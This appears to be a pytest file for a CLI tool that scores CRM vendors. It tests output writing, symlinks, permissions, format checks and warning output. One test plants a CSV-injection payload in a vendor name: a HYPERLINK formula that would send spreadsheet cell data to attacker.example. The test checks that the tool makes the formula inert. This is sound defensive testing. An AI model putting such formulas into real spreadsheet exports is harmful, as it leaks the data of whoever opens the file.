"""The one output helper through the real commands: `-o -`, symlinks, modes, unwritable
folders, format against extension, init all or nothing, CSV formulas, float noise."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import stat
from pathlib import Path

import pytest
from typer.testing import CliRunner

from crmselect.cli import app
from crmselect.io import atomic

MINI = Path(__file__).parent.parent / "fixtures" / "mini"
ENV = {"NO_COLOR": "1", "CRMSELECT_WIDTH": "140", "SOURCE_DATE_EPOCH": "1767225600"}


def run(*args: object):
    return CliRunner().invoke(app, [str(a) for a in args], env=ENV)


def test_dash_is_standard_output(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    result = run("score", MINI / "scorecard.yaml", "-f", "json", "-o", "-", "--sensitivity", "100")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["vendors"]
    result = run("tco", MINI / "scorecard.yaml", "-f", "csv", "-o", "-", "--simulations", "0")
    assert result.exit_code == 0 and result.stdout.startswith("vendor_id,")
    result = run("report", MINI / "scorecard.yaml", "-o", "-", "--simulations", "100", "-q")
    assert result.exit_code == 0 and result.stdout.startswith("<!DOCTYPE html>")
    assert not (tmp_path / "-").exists()


def test_a_symlink_is_written_through_and_modes_are_kept(tmp_path: Path) -> None:
    target = tmp_path / "real.json"
    target.write_text("old")
    target.chmod(0o600)
    link = tmp_path / "link.json"
    link.symlink_to(target)
    result = run("tco", MINI / "scorecard.yaml", "-o", link, "--simulations", "0")
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and json.loads(target.read_text())["vendors"]
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_an_unwritable_folder_is_a_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = os.access
    out = tmp_path / "ro" / "x.json"
    monkeypatch.setattr(
        atomic.os, "access", lambda path, mode: "ro" not in Path(path).parts and real(path, mode)
    )
    out.parent.mkdir()
    result = run("score", MINI / "scorecard.yaml", "-o", out)
    assert result.exit_code == 2
    assert f"cannot write '{out}': permission denied" in result.stderr
    assert "internal error" not in result.stderr


def test_a_permission_error_while_writing_is_a_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def denied(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(atomic.tempfile, "mkstemp", denied)
    out = tmp_path / "x.md"
    result = run("report", MINI / "scorecard.yaml", "-o", out, "--simulations", "0")
    assert result.exit_code == 2, result.output
    assert f"cannot write '{out}': permission denied" in result.stderr
    assert not out.exists()


def test_format_and_extension_must_agree(tmp_path: Path) -> None:
    result = run("tco", MINI / "scorecard.yaml", "-f", "xlsx", "-o", tmp_path / "tco.json")
    assert result.exit_code == 2
    assert "'tco.json' is named for json but the format is xlsx" in result.stderr
    assert not (tmp_path / "tco.json").exists()
    # without --format, the extension decides
    result = run("tco", MINI / "scorecard.yaml", "-o", tmp_path / "tco.xlsx", "--simulations", "0")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "tco.xlsx").read_bytes()[:2] == b"PK"
    result = run("score", MINI / "scorecard.yaml", "-o", tmp_path / "s.csv")
    assert result.exit_code == 0 and (tmp_path / "s.csv").read_text().startswith("rank,")


def test_the_advice_names_only_a_format_the_command_has(tmp_path: Path) -> None:
    """score has no xlsx: a file named .xlsx is refused without advising --format xlsx."""
    result = run("score", MINI / "scorecard.yaml", "-o", tmp_path / "s.xlsx")
    assert result.exit_code == 2
    assert result.stderr == (
        "crmselect: 's.xlsx' is named for xlsx but the format is table; name the file s.txt\n"
    )
    result = run("diff", MINI / "scorecard.yaml", MINI / "scorecard.yaml", "-o", tmp_path / "d.csv")
    assert result.exit_code == 2 and "--format" not in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_init_writes_all_or_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import crmselect.scaffold as scaffold

    real = os.replace
    calls = []

    def fail_late(src, dst):
        calls.append(dst)
        if len(calls) == 5:
            raise PermissionError(13, "Permission denied")
        real(src, dst)

    monkeypatch.setattr(scaffold.os, "replace", fail_late)
    target = tmp_path / "sel"
    result = run("init", target)
    assert result.exit_code == 2, result.output
    assert not target.exists() or list(target.rglob("*")) == []
    monkeypatch.setattr(scaffold.os, "replace", real)
    assert run("init", target).exit_code == 0  # nothing left behind to refuse


def test_init_refuses_symlinked_folders(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    target = tmp_path / "sel"
    target.mkdir()
    (target / "requirements").symlink_to(outside)
    result = run("init", target)
    assert result.exit_code == 2
    assert "is a symbolic link" in result.stderr
    assert list(outside.iterdir()) == [] and [p.name for p in target.iterdir()] == ["requirements"]


def test_tco_csv_keeps_formulas_inert_and_numbers_clean(tmp_path: Path) -> None:
    folder = tmp_path / "mini"
    shutil.copytree(MINI, folder)
    alpha = folder / "vendors" / "alpha.yaml"
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Alpha")'
    alpha.write_text(
        alpha.read_text(encoding="utf-8").replace("name: Alpha CRM", f"name: '{evil}'"),
        encoding="utf-8",
    )
    result = run("tco", folder / "scorecard.yaml", "-f", "csv", "--simulations", "0")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    names = {r[1] for r in rows[1:]}
    assert "'" + evil in names and evil not in names
    numbers = [c for r in rows[1:] for c in r[3:] if c]
    assert all(not re.search(r"\.\d{7,}", c) for c in numbers), numbers
    data = run("tco", folder / "scorecard.yaml", "-f", "json", "--simulations", "200").stdout
    assert not re.search(r"\d\.\d*(0{6,}|9{6,})\d", data)


def test_quiet_prints_the_result_only_and_warnings_are_grouped() -> None:
    card = Path(__file__).resolve().parents[2] / "scorecards" / "b2b-software-eu" / "scorecard.yaml"
    loud = run("tco", card, "--simulations", "100")
    assert loud.exit_code == 0, loud.output
    grouped = [ln for ln in loud.stderr.splitlines() if "premium-support is an add-on" in ln]
    assert len(grouped) == 1 and grouped[0].startswith("warning: Zoho CRM, SuiteCRM: ")
    assert "warning" not in loud.stdout and "software_share" not in loud.stdout
    quiet = run("tco", card, "--simulations", "100", "-q")
    assert quiet.exit_code == 0 and quiet.stderr == ""
    assert quiet.stdout == loud.stdout
    score = run("score", card, "--sensitivity", "100", "-q")
    assert score.exit_code == 0 and score.stderr == "" and "warning" not in score.stdout


CARD = MINI / "scorecard.yaml"


@pytest.mark.parametrize(
    ("command", "name"),
    [
        (["score", CARD, "--sensitivity", "100"], "s.json"),
        (["tco", CARD, "--simulations", "0"], "t.txt"),  # the table said nothing
        (["tco", CARD, "--simulations", "0"], "t.xlsx"),
        (["report", CARD, "--simulations", "0", "--sensitivity", "100"], "r.md"),
        (["diff", CARD, CARD], "d.md"),  # said "crmselect: wrote FILE"
    ],
    ids=lambda x: x if isinstance(x, str) else x[0],
)
def test_every_command_says_wrote_file_and_nothing_more(
    tmp_path: Path, command: list[object], name: str
) -> None:
    """A result written to a file: the file, one line "wrote FILE" on stderr, then the
    warnings (one warning policy: the reader of a file is not at the terminal), nothing on
    stdout; --quiet leaves out every line."""
    out = tmp_path / name
    result = run(*command, "-o", out)
    assert result.exit_code == 0, result.output
    assert out.stat().st_size > 0 and result.stdout == ""
    first, *rest = result.stderr.splitlines()
    assert first == f"wrote {out}"
    assert all(line.startswith("warning: ") for line in rest), rest
    result = run(*command, "-o", out, "--quiet")
    assert result.exit_code == 0 and result.stderr == "" and result.stdout == ""


@pytest.mark.parametrize(
    "command",
    [["score", CARD, "--sensitivity", "100"], ["tco", CARD, "--simulations", "0"]],
    ids=lambda x: x[0],
)
def test_one_warning_policy_whatever_the_output(tmp_path: Path, command: list[object]) -> None:
    """The same warning lines on stderr for a result on standard output and in a file, in
    every format, except Markdown on standard output, which lists them in its own text."""
    on_stdout = run(*command, "-f", "json")
    assert on_stdout.exit_code == 0, on_stdout.output
    warnings = on_stdout.stderr.splitlines()
    assert warnings and all(line.startswith("warning: ") for line in warnings)
    assert len(set(warnings)) == len(warnings)  # each once
    for name in ("r.json", "r.csv", "r.md", "r.txt"):
        written = run(*command, "-o", tmp_path / name)
        assert written.stderr.splitlines()[1:] == warnings, name
    markdown = run(*command, "-f", "md")
    assert markdown.stderr == ""
    listed = markdown.stdout.replace("\\", "")  # Markdown escapes [A] and _
    assert all(line.removeprefix("warning: ") in listed for line in warnings)
